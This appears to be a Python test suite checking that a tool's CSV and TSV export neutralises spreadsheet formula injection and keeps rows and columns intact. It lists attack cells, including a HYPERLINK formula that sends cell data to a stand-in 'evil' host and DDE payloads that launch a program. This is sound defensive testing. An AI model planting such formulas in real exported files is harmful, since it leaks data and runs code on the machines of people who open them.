"""X: cells that a spreadsheet would run, and rows that must stay rows."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

from .cases import Case, Proof, want
from .command import run, unharmed
from .datasets import event, make, quoted

_ACTIVE = (
    '=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", " =1+1",
    "\u200b=1+1", "\u00a0=1+1", "\n=1+1",
)  # fmt: skip
_STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
_QUOTED = ('a","b', 'a"b', "a,b;c\td", "a\nb\r\nc", "'quoted'", "a\\", "\ufeffa")


def cases() -> Iterator[Case]:
    """Each cell, in each column that takes free text."""
    for number, cell in enumerate(_ACTIVE):
        yield Case(f"X{number:02}", f"the cell {cell[:20]!r}", _active(cell))
    for number, cell in enumerate(_QUOTED):
        yield Case(f"X2{number}", f"rows with {cell!r}", _rows(cell))
    yield Case("X29", "--raw for what is no csv", _raw)


def _table(folder: Path, *options: str) -> list[list[str]]:
    ended = run(folder, "list", "--format", "csv", *options)
    unharmed(ended, 0)
    return list(csv.reader(io.StringIO(ended.out, newline="")))


def _active(cell: str) -> Proof:
    def prove(folder: Path) -> None:
        words = quoted(cell)
        make(
            folder,
            event("odd", title=words, topics=f"[{words}]", place=f"{{name: {words}}}", actors=f"[{words}]"),
        )
        for row in _table(folder):
            for one in row:
                first = one.lstrip("\u200b\ufeff\u00a0 ")[:1]
                want(not first or first not in _STARTS, f"a spreadsheet would run {one!r}")
        if cell[0] in "=+-@":
            want(any(cell in row for row in _table(folder, "--raw")), "--raw does not give the cell as it is")

    return prove


def _rows(cell: str) -> Proof:
    def prove(folder: Path) -> None:
        make(folder, event("odd", title=quoted(cell)))
        rows = _table(folder)
        want(len(rows) == 3 and {len(row) for row in rows} == {9}, f"rows and columns are not kept: {rows}")
        tabbed = run(folder, "list", "--format", "tsv").out
        want([line.count("\t") for line in tabbed.splitlines()] == [8, 8, 8], f"tsv is not kept: {tabbed!r}")

    return prove


def _raw(folder: Path) -> None:
    ended = run(make(folder), "list", "--json", "--raw")
    unharmed(ended, 2)
    want("--raw" in ended.err, ended.err)
